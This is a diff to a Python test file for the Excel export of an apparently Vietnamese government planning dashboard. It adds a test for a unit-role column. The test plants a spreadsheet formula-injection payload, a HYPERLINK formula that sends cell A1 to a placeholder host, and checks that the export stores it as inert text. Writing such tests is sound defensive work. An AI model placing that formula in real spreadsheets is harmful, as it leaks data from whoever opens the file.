@@ -98,7 +98,29 @@ def test_xlsx_export_is_readable_by_openpyxl(known, client, users):
     assert summary["Đã chấp nhận"] == 3 and summary["Tổng số"] == len(reports)
     units = list(book["Đơn vị"].iter_rows(min_row=2, values_only=True))
     assert len(units) == len(reports)
-    assert any(row[1] == "Sở Tư pháp" and row[3] == "Đã chấp nhận" for row in units)
+    assert any(row[1] == "Sở Tư pháp" and row[4] == "Đã chấp nhận" for row in units)
+
+
+def test_xlsx_export_has_each_units_role(journey, on_day, client, users):
+    """Vai trò: an assignment row's chủ trì and phối hợp units, as on the plan page; no cell a formula, even where
+    the drafter typed one as the row's content."""
+    from workflows.models import ObligationKind
+
+    typed = '=HYPERLINK("http://x?leak="&A1)'
+    obligation = issued_obligation(
+        journey, on_day, title=typed, kind=ObligationKind.TASK, recipients=["Sở Tư pháp"], due_date=D(2025, 5, 30),
+        task_row={"content": typed, "lead": "Sở Tư pháp", "cooperating": "Sở Tài chính, Sở Xây dựng", "deadline": "30/5/2025"})
+    client.force_login(users["th.snv"])
+    response = client.get(f"/dashboard/plan/{obligation.plan_id}/xlsx/")
+    assert response.status_code == 200
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content))["Đơn vị"]
+    header = [cell.value for cell in sheet[1]]
+    assert header[:4] == ["STT", "Đơn vị", "Vai trò", "Nhiệm vụ"]
+    roles = {row[1]: row[2] for row in sheet.iter_rows(min_row=2, values_only=True)}
+    assert roles == {"Sở Tư pháp": "Chủ trì", "Sở Tài chính": "Phối hợp", "Sở Xây dựng": "Phối hợp"}
+    titles = [row[3] for row in sheet.iter_rows(min_row=2)]
+    assert {c.value for c in titles} == {typed} and {c.data_type for c in titles} == {"s"}
+    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]
 
 
 def test_progress_over_time(known):
